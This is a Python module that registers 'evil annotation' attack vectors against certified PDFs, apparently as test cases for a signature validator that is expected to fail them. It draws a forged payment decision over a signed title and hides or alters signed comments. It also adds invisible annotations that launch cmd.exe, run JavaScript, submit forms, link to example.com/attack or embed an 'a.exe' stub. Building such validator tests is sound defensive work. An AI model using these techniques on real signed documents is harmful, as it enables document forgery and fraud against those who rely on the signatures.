"""Annotations that cover, add or lead astray (ISO 32000-2, 12.5; Rohlmann et al., 2021: evil annotation)."""

from __future__ import annotations

from pikepdf import Array, Dictionary, Name, String

from edocs.model import Policy

from .bench import AGENCY, Bench
from .edits import form_xobject, new_stream
from .lawful_changes import comment, drawn_comment
from .pdf import Edit, Update, numbers, update
from .registry import Effect, Outcome, Vector, add_vector, attack
from .signing import add_annotation

SHOWN = Effect.SHOWN
_CHANGES = ("changes.", "structure.")
_DEFAULT = (Policy.STRICT, Policy.DECREE_30)
"""P=3 lets everybody take comments away and change them (12.8.2.2.2): where the document decides, they may."""
_TITLE = (60.0, 760.0, 560.0, 790.0)
_LIE = b"1 g 0 0 500 30 re f BT /Helv 14 Tf 0 g 12 10 Td (Decision No. 12: pay 9 000 000 dong to somebody else) Tj ET"


def _comment(name: str, about: str, change: Edit, *, permission: int, effect: Effect = SHOWN) -> None:
    add_vector(
        Vector(
            name=f"annotation-{name}-p{permission}",
            about=f"After a certification with P={permission}: {about}",
            build=lambda bench: update(bench.certified(permission), change),
            outcome=Outcome.FAILED,
            rules=_CHANGES,
            effect=effect,
            family="annotation",
        )
    )


_EVIL = {
    "free-text": ("text is written over the title.", drawn_comment("FreeText", _TITLE, _LIE, DA=String("/Helv 14 Tf"))),
    "stamp": ("a stamp is put over the title.", drawn_comment("Stamp", _TITLE, _LIE)),
    "square": ("a white square covers the title.", drawn_comment("Square", _TITLE, b"1 g 0 0 500 30 re f")),
    "redact": ("the title is blacked out.", drawn_comment("Redact", _TITLE, b"0 g 0 0 500 30 re f")),
    "ink": ("the title is struck out.", drawn_comment("Ink", _TITLE, b"1 w 0 15 m 500 15 l 30 w 1 G S")),
    "watermark": ("a picture lies over the title.", drawn_comment("Watermark", _TITLE, _LIE)),
    "line": (
        "a white line as thick as the text lies over it.",
        drawn_comment("Line", _TITLE, b"1 G 30 w 0 15 m 500 15 l S"),
    ),
}
for _name, (_about, _change) in _EVIL.items():
    for _permission in (2, 3):
        _comment(_name, _about, _change, permission=_permission)


def _action(subtype: str, **action: object) -> Edit:
    def put(revision: Update) -> None:
        comment(subtype, (72, 200, 200, 220), A=Dictionary({"/" + key: value for key, value in action.items()}))(
            revision
        )

    return put


def _attachment(revision: Update) -> None:
    data = new_stream(revision, b"MZ", Type=Name.EmbeddedFile)
    specification = revision.add(Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=data)))
    comment("FileAttachment", (72, 200, 92, 220), FS=specification)(revision)


def _link(revision: Update) -> None:
    action = Dictionary(S=Name.URI, URI=String("https://example.com/attack"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, F=4, A=action)
    link.Rect, link.Border = numbers(0, 0, 595, 842), numbers(0, 0, 0)
    add_annotation(revision, revision.page(0), revision.add(link))


def _remove_link(revision: Update) -> None:
    page = revision.page(0)
    page.Annots = Array([item for item in page.Annots if item.objgen != (39, 0)])
    revision.touch(page)


def _widget(revision: Update) -> None:
    look = form_xobject(revision, b"1 g 0 0 500 30 re f", 500, 30)
    comment("Widget", _TITLE, AP=Dictionary(N=look), FT=Name.Tx, T=String("Free"))(revision)


def _hidden_state(revision: Update) -> None:
    """Nothing is shown until the pointer is over the page."""
    empty = form_xobject(revision, b"", 500, 30)
    lie = form_xobject(revision, _LIE, 500, 30, Dictionary(Font=Dictionary(Helv=revision.pdf.get_object((12, 0)))))
    comment("Stamp", _TITLE, AP=Dictionary(N=empty, R=lie, D=lie))(revision)


def _matrix(revision: Update) -> None:
    """The rectangle is small and far away; the box and matrix of the drawing stretch it over the title."""
    look = form_xobject(revision, b"1 g -100 -100 9000 9000 re f", 10, 10)
    look.BBox = numbers(-100, -100, 9000, 9000)
    comment("Stamp", (300, 200, 301, 201), AP=Dictionary(N=look))(revision)


_INVISIBLE = {
    "uri": ("pressing it leads to a web page.", _action("Text", S=Name.URI, URI=String("https://example.com/attack"))),
    "script": ("pressing it runs a script.", _action("Text", S=Name.JavaScript, JS=String("app.alert(1)"))),
    "launch": ("pressing it starts a program.", _action("Stamp", S=Name.Launch, F=String("cmd.exe"))),
    "submit": ("pressing it sends the form away.", _action("Text", S=Name.SubmitForm, F=String("https://example.com"))),
    "attachment": ("a file is pinned to the page.", _attachment),
    "link": ("a link covers the page.", _link),
    "link-removed": ("a signed link is taken away.", _remove_link),
    "under-the-pointer": ("what it shows under the pointer is another text.", _hidden_state),
}
for _name, (_about, _change) in _INVISIBLE.items():
    _comment(_name, _about, _change, permission=3, effect=Effect.INVISIBLE)
_comment("widget", "a widget of no field covers the title.", _widget, permission=3)


@attack("annotation-in-two-steps", *_CHANGES, effect=SHOWN)
def _(bench: Bench) -> bytes:
    """A harmless note on blank paper is moved over the title and drawn otherwise in a later revision."""
    once = update(bench.certified(3), drawn_comment("FreeText", (300, 200, 400, 220), b"0 0 1 rg 5 5 10 10 re f"))

    def move(revision: Update) -> None:
        note = revision.page(0).Annots[-1]
        note.Rect = numbers(*_TITLE)
        note.AP = Dictionary(N=form_xobject(revision, b"1 g 0 0 500 30 re f", 500, 30))
        revision.touch(note)

    return update(once, move)


@attack("annotation-before-approval", *_CHANGES, effect=SHOWN)
def _(bench: Bench) -> bytes:
    """A comment over the title, and then an approval signature of the agency."""
    return bench.sign(update(bench.certified(3), _EVIL["free-text"][1]), "seal", AGENCY)


@attack("annotation-without-certification", *_CHANGES, effect=SHOWN)
def _(bench: Bench) -> bytes:
    """A comment over the title of a document that nobody certified."""
    return update(bench.two, _EVIL["free-text"][1])


@attack("signed-annotation-removed", *_CHANGES, effect=SHOWN, signed="commented", policies=_DEFAULT)
def _(bench: Bench) -> bytes:
    """A comment that was signed with the page is taken away, where comments are allowed."""

    def remove(revision: Update) -> None:
        page = revision.page(0)
        page.Annots = Array([item for item in page.Annots if item.get("/Subtype") != Name.FreeText])
        revision.touch(page)

    return update(bench.base("commented"), remove)


@attack("signed-annotation-changed", *_CHANGES, effect=SHOWN, signed="commented", policies=_DEFAULT)
def _(bench: Bench) -> bytes:
    """A comment that was signed with the page shows another text."""

    def change(revision: Update) -> None:
        note = next(item for item in revision.page(0).Annots if item.get("/Subtype") == Name.FreeText)
        fonts = Dictionary(Font=Dictionary(Helv=revision.pdf.get_object((12, 0))))
        note.AP = Dictionary(N=form_xobject(revision, b"BT /Helv 11 Tf 2 6 Td (approved) Tj ET", 100, 20, fonts))
        revision.touch(note)

    return update(bench.base("commented"), change)


@attack("signed-annotation-hidden", *_CHANGES, effect=SHOWN, signed="commented", policies=_DEFAULT)
def _(bench: Bench) -> bytes:
    """A comment that was signed with the page is hidden by its flag."""

    def hide(revision: Update) -> None:
        note = next(item for item in revision.page(0).Annots if item.get("/Subtype") == Name.FreeText)
        note.F = 2
        revision.touch(note)

    return update(bench.base("commented"), hide)
